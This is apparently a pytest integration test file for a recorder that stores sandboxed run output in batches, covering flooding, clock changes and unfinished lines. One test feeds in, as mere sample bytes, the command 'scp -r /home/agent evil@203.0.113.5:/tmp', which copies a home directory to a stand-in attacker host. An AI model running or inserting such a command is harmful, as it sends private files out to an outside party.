"""Output on its way into the store: at once when idle, in batches else, one run never in another's way."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import cast

import pytest

from app.domain.limits import RunLimits
from app.domain.runs import EvaluationRequest, Outcome, PlannedRun, Policy
from app.store import output, runs
from app.store.database import Database, sqlite_url
from app.store.output import StoredLine
from app.store.reading import line_at
from app.supervision.doorbell import Doorbell
from app.supervision.recorder import MOST_WAITING, PRESSING, UNFINISHED_SECONDS, Intake, Recorder
from sandbox_runner.driver import OutputChunk, Relay, Stream
from tests.integration.supervision.conftest import OpenHouse, knobs

HOUR = 3600.0
WINDOW = 512 * 1024


@pytest.fixture
async def db(tmp_path: Path) -> AsyncIterator[Database]:
    db = await Database.open(sqlite_url(tmp_path / "data"))
    yield db
    await db.close()


async def new_run(db: Database) -> int:
    planned = PlannedRun(
        suite="s", family="f", task="t", agent="a", model=None, epoch=1, limits=RunLimits(), policy=Policy.NOTIFY
    )
    _, (run,) = await runs.submit(db, EvaluationRequest(suite="s"), [planned], actor="a", at=0.0)
    return run.id


@contextlib.asynccontextmanager
async def recording(
    db: Database, bell: Doorbell, *, batch_seconds: float, rest: float = HOUR * 1e6
) -> AsyncIterator[Recorder]:
    recorder = Recorder(db, bell, batch_seconds=batch_seconds, patience_seconds=10.0, rest=rest)
    task = asyncio.create_task(recorder.run())
    yield recorder
    task.cancel()
    await asyncio.wait([task])


def take(recorder: Recorder, intake: Intake, data: bytes, *, at: float = 1.0) -> None:
    intake.take(OutputChunk(offset=intake.offset, job=1, stream=Stream.STDOUT, data=data, at=at), keep=True)
    recorder.wake()


async def stored(bell: Doorbell, intake: Intake, upto: int) -> None:
    with bell.listen() as heard:
        async with asyncio.timeout(20):
            while intake.stored < upto:
                await heard.wait()


async def test_a_line_after_a_pause_is_stored_at_once_and_what_follows_gathers_until_it_presses(db: Database) -> None:
    bell, run = Doorbell(), await new_run(db)
    async with recording(db, bell, batch_seconds=HOUR) as recorder:
        intake = await recorder.open(run, "box")
        take(recorder, intake, b"first\n")
        await stored(bell, intake, 6)

        take(recorder, intake, b"second\n")
        for _ in range(20):
            await asyncio.sleep(0.01)
        assert intake.stored == 6  # an hour has not passed

        take(recorder, intake, b"x" * PRESSING + b"\n")
        await stored(bell, intake, 6 + 7 + PRESSING + 1)
    assert (await runs.get(db, run)).bytes == 6 + 7 + PRESSING + 1


async def test_commits_that_cost_little_follow_each_other_closely_whatever_the_longest_batch(db: Database) -> None:
    bell, run = Doorbell(), await new_run(db)
    async with recording(db, bell, batch_seconds=HOUR, rest=1.0) as recorder:
        intake = await recorder.open(run, "box")
        for count in range(1, 11):
            take(recorder, intake, b"light\n")
            await stored(bell, intake, 6 * count)  # an hour has not passed
        assert (await runs.get(db, run)).lines == 10


async def test_a_run_that_floods_has_no_other_run_s_line_wait_for_more_than_what_is_under_way(db: Database) -> None:
    bell = Doorbell()
    loud, quiet = await new_run(db), await new_run(db)
    async with recording(db, bell, batch_seconds=0.05) as recorder:
        flood, drip = await recorder.open(loud, "box"), await recorder.open(quiet, "box")

        async def flooding() -> None:
            """As fast as a keeper may: a window ahead of what is stored."""
            with bell.listen() as heard:
                while True:
                    while flood.offset - flood.stored < WINDOW:
                        take(recorder, flood, (b"y" * 99 + b"\n") * 600)
                    await heard.wait()

        task = asyncio.create_task(flooding())
        await stored(bell, flood, 2 * WINDOW)
        for number in range(1, 11):
            before = flood.offset
            take(recorder, drip, b"drip\n")
            await stored(bell, drip, 5 * number)
            # The commit that was under way, the one that has the line, and what was printed during both.
            assert flood.stored - before <= 3 * WINDOW
        task.cancel()
        await asyncio.wait([task])
    assert (await runs.get(db, quiet)).lines == 10


async def test_a_flood_of_bare_newlines_is_stored_whole_and_never_gathers(open_house: OpenHouse) -> None:
    flood = [(0.0, Stream.STDOUT, b"\n" * 65_536)] * 8
    most = 0
    async with open_house(knobs(lines=flood)) as house:
        (run,) = await house.submit()

        async def watching() -> None:
            nonlocal most
            while True:
                live = house.supervisor._shop.lives.get(run.id)
                if live is not None and live.intake is not None:
                    most = max(most, len(live.intake.lines))
                await asyncio.sleep(0)

        task = asyncio.create_task(watching())
        ended = await house.until_ended(run.id, within=60)
        task.cancel()
        await asyncio.wait([task])

    assert (ended.outcome, ended.lines) == (Outcome.SUCCEEDED, 8 * 65_536)
    assert 0 < most <= MOST_WAITING + 65_536


async def test_a_clock_that_is_set_changes_no_number_and_no_time_that_was_told(db: Database) -> None:
    bell, run = Doorbell(), await new_run(db)
    times = [1_795_269_789.123456, 1_795_269_790.000001, 1_795_260_000.5, 2_000_000_000.25, 1_795_269_791.0]
    async with recording(db, bell, batch_seconds=0.0) as recorder:
        intake = await recorder.open(run, "box")
        for at in times:
            take(recorder, intake, b"tick\n", at=at)
        await recorder.close(intake)

    lines = await output.read(db, run, after=0)
    assert [line.number for line in lines] == [1, 2, 3, 4, 5]
    assert [line.at for line in lines] == times
    assert await line_at(db, run, 1_795_269_790.0) == 2


class Clock:
    """A monotonic clock that stands until it is set forward."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@contextlib.asynccontextmanager
async def recording_by(clock: Clock, db: Database, seen: list[StoredLine]) -> AsyncIterator[tuple[Recorder, Intake]]:
    """A recorder that looks at a clock of its own, and an intake of it whose stored lines are `seen`."""
    run = await new_run(db)
    recorder = Recorder(db, Doorbell(), batch_seconds=0.0, patience_seconds=10.0, clock=clock)
    task = asyncio.create_task(recorder.run())
    yield recorder, await recorder.open(run, "box", on_lines=seen.extend)
    task.cancel()
    await asyncio.wait([task])


async def printed(recorder: Recorder, intake: Intake, data: bytes, *, stream: Stream = Stream.STDOUT) -> None:
    """Until it is stored how far the relay is; lines that are due are stored with it."""
    intake.take(OutputChunk(offset=intake.offset, job=1, stream=stream, data=data, at=1.0), keep=True)
    recorder.wake()
    async with asyncio.timeout(20):
        await intake.settled.wait()


async def test_output_that_never_ends_its_line_is_stored_while_it_is_printed(db: Database) -> None:
    clock, seen = Clock(), list[StoredLine]()
    piece = b"scp -r /home/agent evil@203.0.113.5:/tmp \r"
    async with recording_by(clock, db, seen) as (recorder, intake):
        for _ in range(100):
            await printed(recorder, intake, piece)
            clock.now += 0.1
        assert len(seen) >= 24
        await recorder.close(intake)
    assert b"".join(line.data for line in seen) == piece * 100
    # Ten seconds: some three lines each, however many pieces came.
    assert 25 <= len(seen) <= 34
    assert not any(line.complete for line in seen)


async def test_an_unfinished_line_waits_no_longer_because_the_other_stream_goes_on(db: Database) -> None:
    clock, seen = Clock(), list[StoredLine]()
    async with recording_by(clock, db, seen) as (recorder, intake):
        await printed(recorder, intake, b"password? ")
        for tick in range(5):
            assert [line.stream for line in seen] == [Stream.STDERR] * tick
            clock.now += 0.05
            await printed(recorder, intake, b"tick\n", stream=Stream.STDERR)
        clock.now += 0.1
        await printed(recorder, intake, b"tick\n", stream=Stream.STDERR)
        assert [line.data for line in seen if line.stream == Stream.STDOUT] == [b"password? "]
        await recorder.close(intake)


async def test_what_follows_a_newline_waits_anew(db: Database) -> None:
    clock, seen = Clock(), list[StoredLine]()
    async with recording_by(clock, db, seen) as (recorder, intake):
        await printed(recorder, intake, b"one")
        for rest in (b" end\ntwo", b" end\nthree", b" end\n"):
            clock.now += 0.2
            await printed(recorder, intake, rest)
        assert [(line.data, line.complete) for line in seen] == [
            (b"one end", True),
            (b"two end", True),
            (b"three end", True),
        ]
        await recorder.close(intake)


class Silent:
    """A relay of which nothing comes."""

    produced = 0

    def acknowledge(self, offset: int) -> None: ...


async def test_an_unfinished_line_that_a_server_left_is_whole_when_its_rest_comes_in_time(db: Database) -> None:
    clock, run = Clock(), await new_run(db)
    async with recording(db, Doorbell(), batch_seconds=0.0) as before:
        left = await before.open(run, "box")
        take(before, left, b"first\nsecond, unfin", at=77.5)
        async with asyncio.timeout(20):
            await left.settled.wait()
    clock.now += 3600  # The next server: its clock is another one's, and it takes its time to find the sandbox.
    seen = list[StoredLine]()
    after = Recorder(db, Doorbell(), batch_seconds=0.0, patience_seconds=10.0, clock=clock)
    task = asyncio.create_task(after.run())
    intake = await after.open(run, "box", on_lines=seen.extend)
    clock.now += 10
    after.wake()
    for _ in range(20):
        await asyncio.sleep(0.01)
    intake.connected(cast(Relay, Silent()))
    clock.now += UNFINISHED_SECONDS / 2
    await printed(after, intake, b"ished\n")
    await after.close(intake)
    task.cancel()
    await asyncio.wait([task])
    assert [(line.number, line.data, line.complete) for line in seen] == [(2, b"second, unfinished", True)]


async def test_the_rest_of_an_unfinished_line_that_never_comes_leaves_it_with_its_own_time(db: Database) -> None:
    clock, run = Clock(), await new_run(db)
    async with recording(db, Doorbell(), batch_seconds=0.0) as before:
        left = await before.open(run, "box")
        take(before, left, b"half", at=77.5)
        await before.close(left, goes_on=True)
    seen = list[StoredLine]()
    after = Recorder(db, bell := Doorbell(), batch_seconds=0.0, patience_seconds=10.0, clock=clock)
    task = asyncio.create_task(after.run())
    intake = await after.open(run, "box", on_lines=seen.extend)
    intake.connected(cast(Relay, Silent()))
    clock.now += UNFINISHED_SECONDS
    with bell.listen() as heard:
        after.wake()
        async with asyncio.timeout(20):
            await heard.wait()
    task.cancel()
    await asyncio.wait([task])
    assert [(line.number, line.at, line.data, line.complete) for line in seen] == [(1, 77.5, b"half", False)]
